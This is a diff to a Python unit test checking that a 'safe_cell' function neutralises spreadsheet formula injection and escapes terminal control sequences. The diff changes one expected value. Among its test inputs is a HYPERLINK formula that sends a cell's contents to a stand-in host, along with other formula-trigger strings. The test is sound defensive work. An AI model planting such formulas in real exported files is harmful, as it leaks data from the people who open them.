@@ -14,7 +14,7 @@ def test_cells_that_a_spreadsheet_would_run_are_shown_as_text():
     for text in ('=HYPERLINK("http://example.invalid/?"&A1,"click")', "+SUM(1)", "-2+3", "@cmd", "\tx", "\rx"):
         assert safe_cell(text).startswith("'")
     assert safe_cell("Offer water.") == "Offer water."
-    assert safe_cell("-2") == "-2" and safe_cell(-2) == "-2" and safe_cell(3) == "3"  # numbers stay numbers
+    assert safe_cell("-2") == "'-2" and safe_cell(-2) == "-2" and safe_cell(3) == "3"  # numbers stay numbers
     assert safe_cell("a\x1b]8;;x\x07b\x9bc\x00") == "a\\u001b]8;;x\\u0007b\\u009bc\\u0000"
     assert safe_cell("two\nlines") == "two\nlines"
 
